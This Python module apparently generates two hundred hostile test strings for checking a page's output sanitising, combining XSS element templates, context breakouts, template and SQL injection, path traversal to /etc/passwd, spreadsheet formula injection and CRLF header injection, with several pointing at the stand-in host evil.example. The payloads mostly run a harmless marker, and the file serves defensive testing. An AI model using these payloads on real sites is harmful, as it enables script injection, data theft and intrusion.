"""This file is where hostile strings are made: two hundred that would run, draw or break something on a page that let them.

Each payload that runs sets a global and shows a dialog; each element of one carries the mark `data-pwn`, the class or the
tag of our own making, so that a page can be asked whether anything of it became real.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle, islice, product

#: What runs if a payload is let through, and what tells its elements from the page's own.
RUN = "window.__pwned=1;alert(1)"
MARK = "data-pwn=1"
COUNT = 200

_ELEMENTS = (
    "<script {m}>{r}</script>",
    "<script {m} src=/static/charts.js></script>",
    "<script {m} src=//evil.example/x.js></script>",
    "<img {m} src=x onerror={r}>",
    "<img {m} src=//evil.example/x.png>",
    "<svg {m} onload={r}>",
    "<svg {m}><animate onbegin={r} attributeName=x dur=1s>",
    "<svg {m}><use href=data:image/svg+xml,x></svg>",
    "<iframe {m} src=javascript:{r}></iframe>",
    "<iframe {m} srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<object {m} data=javascript:{r}></object>",
    "<embed {m} src=javascript:{r}>",
    "<style {m}>*{{display:none}}</style>",
    "<style {m}>@import '//evil.example/x.css';</style>",
    "<link {m} rel=stylesheet href=//evil.example/x.css>",
    "<meta {m} http-equiv=refresh content=0;url=//evil.example/>",
    "<base {m} href=//evil.example/>",
    "<a {m} href=javascript:{r}>press</a>",
    "<form {m} action=//evil.example/><input name=form_token><button>go</button></form>",
    "<input {m} autofocus onfocus={r}>",
    "<details {m} open ontoggle={r}>",
    "<video {m} src=x onerror={r}></video>",
    "<body {m} onload={r}>",
    "<marquee {m} onstart={r}>",
    "<math {m}><mtext><script>{r}</script></mtext></math>",
    "<template {m}><script>{r}</script></template>",
    "<noscript {m}><p title='</noscript><img src=x onerror={r}>'>",
    "<textarea {m}></textarea><script>{r}</script>",
    "<x-pwn {m} onclick={r} tabindex=1>",
    "<p {m} style=background:url(//evil.example/x)>",
)
#: What may stand before an element so that it becomes real: the end of an attribute, a comment, a script, a text.
_BREAKS = (
    "",
    '">',
    "'>",
    "-->",
    "</script>",
    "</title>",
    "</textarea>",
    "</style>",
    "]]>",
    "</bdi></td></table>",
    '\\">',
    "\">'>",
)
_WORDS = (
    "javascript:{r}",
    "JaVaScRiPt:{r}",
    "java\tscript:{r}",
    " javascript:{r}",
    "data:text/html,<script {m}>{r}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{r}",
    "//evil.example/",
    "https://evil.example/?a=1&b=<script {m}>",
    '" onmouseover="{r}" data-pwn="1',
    "' onmouseover='{r}' data-pwn='1",
    "` onmouseover=`{r}` data-pwn=`1",
    '" autofocus onfocus="{r}" data-pwn="1" x="',
    "x onerror={r} data-pwn=1",
    "{{{{ 7 * 7 }}}} {{% for x in cycler.__init__.__globals__ %}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "${{7*7}} #{{7*7}} <%= 7*7 %>",
    "{{% raw %}}{{{{ x }}}}",
    "datum.constructor.constructor('{r}')()",
    "\" + constructor.constructor('{r}')() + \"",
    "{{\"signal\": \"event.view.eval('{r}')\"}}",
    "\\u003cscript data-pwn=1\\u003e{r}\\u003c/script\\u003e",
    "&lt;script data-pwn=1&gt;{r}&lt;/script&gt;",
    "&#60;img data-pwn=1 src=x onerror={r}&#62;",
    "&amp;lt;img data-pwn=1&amp;gt;",
    "%3Cscript data-pwn=1%3E{r}%3C/script%3E",
    "\u2028{r}\u2029//",
    "</script\u0000><script {m}>{r}</script>",
    "\u0000\u0001\u0007\u001b[31mred\u001b[0m\u007f\u009b31m",
    "\r\nSet-Cookie: pwned=1\r\n\r\n<script {m}>{r}</script>",
    "\u202eevil\u202c \u2066\u2067x\u2069",
    "\u200b\u200d\ufeff<scr\u200bipt {m}>",
    "\ud800<img {m} src=x onerror={r}>\udfff",
    "\uff1cscript {m}\uff1e{r}\uff1c/script\uff1e",
    "W" * 3000,
    "<" * 500,
    "\u0e01\u0e33" * 300 + "Z\u0351\u036b\u0343" * 200,
    "=HYPERLINK(\"//evil.example/\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "/api/openapi.json?x=1#y",
    "a/b/c.json",
    "?words=x&start=-1#frag;",
    "'; DROP TABLE event; --",
    "\" OR 1=1 --",
    "* NEAR( \"",
    "<!--<script {m}>",
    "<![CDATA[<script {m}>{r}</script>]]>",
    "<?php echo 1 ?><?xml version=1?>",
)  # fmt: skip


def payloads() -> list[str]:
    """Return two hundred different strings."""
    return list(islice(dict.fromkeys(_made()), COUNT))


def _made() -> Iterator[str]:
    yield from (word.format(r=RUN, m=MARK) for word in _WORDS)
    for element, breaking in zip(_ELEMENTS, cycle(_BREAKS), strict=False):
        yield breaking + element.format(r=RUN, m=MARK)
    for breaking, element in product(_BREAKS, _ELEMENTS):
        yield breaking + element.format(r=RUN, m=MARK)
